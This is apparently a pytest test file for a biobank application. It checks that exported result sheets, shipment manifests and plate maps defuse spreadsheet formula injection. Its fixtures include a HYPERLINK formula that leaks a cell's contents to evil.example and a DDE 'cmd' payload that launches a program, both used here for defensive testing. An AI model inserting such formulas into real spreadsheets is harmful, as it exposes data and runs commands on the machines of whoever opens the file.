"""Formulas in the files the biobank writes (CSV injection): a method or a comment typed
``=HYPERLINK("http://…/?leak="&A2, …)`` in a laboratory's result sheet must reach the
study export, the manifest and the plate map as text, quoted, never as a formula; genuine
numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import sqlalchemy as sa

from biobank.assays import platemap
from biobank.assays.models import Result
from biobank.distribution.models import Shipment
from tests import factories
from tests.distribution.conftest import stock

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
PAYLOADS = [LEAK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", " =cmd|' /C calc'!A0"]
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")


def looks_like_a_formula(text: str) -> bool:
    """What a spreadsheet could run: a trigger first, or after blanks."""
    return text.startswith(TRIGGERS) or text.lstrip().startswith(TRIGGERS)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def serum(db, sites):
    """Serum aliquots of LIM-001..003 at baseline and month 2, stored."""
    factories.freezer({})
    stored = stock(db)
    return {
        (p, v): stored[(p, v, "SER")][0]
        for p in ("LIM-001", "LIM-002", "LIM-003")
        for v in ("BL", "M2")
    }


def text_sheet(rows) -> bytes:
    """A result sheet as a laboratory's spreadsheet saves it: what was typed into a cell
    is text (openpyxl would otherwise store "=..." as a formula without a value)."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["Barcode", "Analyte", "Value", "Unit", "Method", "Date", "Comment"])
    for row in rows:
        ws.append(row)
    for line in ws.iter_rows(min_row=2):
        for cell in line:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def import_dangerous_results(serum, db, technician, manager):
    """A laboratory's sheet (imported through the API) whose methods and comments carry
    formulas; the reader trims blanks, so the tab, carriage return and space ones are
    stored as a sheet read by another tool would leave them."""
    rows = [
        # LIM-001's serum VEGF falls from 900 to 300: a negative percent change.
        [serum[("LIM-001", "BL")], "VEGF", 900, "pg/mL", LEAK, "02/03/2026", "+1+1"],
        [serum[("LIM-001", "M2")], "VEGF", 300, "pg/mL", "-2+3", "04/05/2026", "@SUM(A1)"],
        [serum[("LIM-002", "BL")], "M-spike", "12", "g/L", "＝1+1", "02/03/2026", "-5 pg/mL"],
        [serum[("LIM-002", "M2")], "M-spike", "5", "g/L", "SPE", "04/05/2026", "-"],
        [serum[("LIM-003", "BL")], "M-spike", "3", "g/L", "SPE", "02/03/2026", "x"],
    ]
    upload = {"file": (io.BytesIO(text_sheet(rows)), "results.xlsx")}
    imported = technician.post(
        "/api/v1/assay-runs/sheets", data=upload, content_type="multipart/form-data"
    )
    assert imported.status_code == 201, imported.get_json()
    code = imported.get_json()["run"]
    accepted = manager.post(f"/api/v1/assay-runs/{code}/accept")
    assert accepted.status_code == 200, accepted.get_json()
    stored = {r.aliquot.barcode: r for r in db.session.execute(sa.select(Result)).scalars()}
    assert stored[serum[("LIM-001", "BL")]].method == LEAK
    stored[serum[("LIM-002", "M2")]].method = "\t=1"
    stored[serum[("LIM-003", "BL")]].method = "\r=1"
    stored[serum[("LIM-003", "BL")]].detail = " =cmd|' /C calc'!A0"
    db.session.commit()


def test_the_study_export_xlsx_holds_no_formula(serum, db, api_as):
    import_dangerous_results(serum, db, api_as("technician"), api_as("manager"))
    response = api_as("technician").get("/api/v1/assay-results/export.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not looks_like_a_formula(cell.value), (cell.coordinate, cell.value)
    for payload in [*PAYLOADS, "-", "-5 pg/mL"]:
        # XML reads a carriage return as a line feed.
        assert "'" + payload.replace("\r", "\n") in texts, payload
    table = list(book["Results"].iter_rows(values_only=True))
    header, rows = table[0], [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert "value" in header and len(rows) == 5
    assert {row["value"] for row in rows} == {900, 300, 12, 5, 3}
    assert all(type(row["value"]) in (int, float) for row in rows)
    changes = [row["percent_change"] for row in rows if row["percent_change"] is not None]
    assert changes and min(changes) < 0  # a negative number stays a number
    assert all(type(change) in (int, float) for change in changes)


def test_the_study_export_csv_holds_no_formula(serum, db, api_as):
    import_dangerous_results(serum, db, api_as("technician"), api_as("manager"))
    response = api_as("technician").get("/api/v1/assay-results/export.csv")
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    cells = [cell for row in table for cell in row]
    for cell in cells:
        assert is_number(cell) or not looks_like_a_formula(cell), cell
    for payload in [*PAYLOADS, "-", "-5 pg/mL"]:
        assert "'" + payload in cells, payload
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert {float(row["value"]) for row in rows} == {900, 300, 12, 5, 3}
    changes = [float(row["percent_change"]) for row in rows if row["percent_change"]]
    assert changes and min(changes) < 0  # written as a number, without a quote


def test_the_page_export_is_the_same_safe_file(serum, db, api_as, login_as):
    import_dangerous_results(serum, db, api_as("technician"), api_as("manager"))
    page = login_as("technician")
    book = openpyxl.load_workbook(io.BytesIO(page.get("/assays/export.xlsx").data))
    assert not [
        c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"
    ]
    text = page.get("/assays/export.csv").get_data(as_text=True)
    assert "'" + LEAK.replace('"', '""') in text


def test_the_manifest_workbook_holds_no_formula(db, sites, api_as):
    manager = api_as("manager")
    created = manager.post("/api/v1/shipments", json={"destination_site": "PAR"})
    assert created.status_code == 201, created.get_json()
    shipment = db.session.execute(sa.select(Shipment)).scalar_one()
    shipment.carrier, shipment.tracking_number = LEAK, "+33 1 23 45 67 89"
    shipment.contact, shipment.logger_id = "@SUM(A1)", "-2+3"
    db.session.commit()
    response = manager.get(f"/api/v1/shipments/{shipment.code}/manifest.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    values = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
                    assert not looks_like_a_formula(cell.value), cell.value
    for payload in (LEAK, "+33 1 23 45 67 89", "@SUM(A1)", "-2+3"):
        assert "'" + payload in values


def test_the_plate_map_keeps_codes_exact_and_never_a_formula():
    """The plate map is read back by the import: its grid keeps each code as it is,
    marked as text (Excel's quote prefix); the List sheet, for people, quotes."""
    plate = platemap.PlateMap(
        {"A1": "STD1", "A2": "-X1", "A3": "+Y2", "A4": "=1+1", "A5": "@Z"},
        (platemap.Standard("STD1", 100.0, "pg/mL"),),
        {"=1+1": 2.0},
    )
    details = {"-X1": {"Participant": LEAK, "Visit": "-"}, "=1+1": {"Participant": "\t=1"}}
    data = platemap.write_plate_map(plate, title="+title", details=details)
    assert platemap.read_plate_map(data) == plate
    book = openpyxl.load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    layout = book["Layout"]
    for coordinate, code in (("C2", "-X1"), ("D2", "+Y2"), ("E2", "=1+1"), ("F2", "@Z")):
        assert layout[coordinate].value == code and layout[coordinate].data_type == "s"
        assert layout[coordinate].quotePrefix
    assert layout["A11"].value == "'+title"
    assert book["Dilutions"]["A2"].value == "=1+1" and book["Dilutions"]["A2"].quotePrefix
    listed = [c for row in book["List"].iter_rows(min_row=2, values_only=True) for c in row]
    assert "'" + LEAK in listed and "'-" in listed and "'\t=1" in listed and "'-X1" in listed
    assert not [v for v in listed if isinstance(v, str) and looks_like_a_formula(v)]
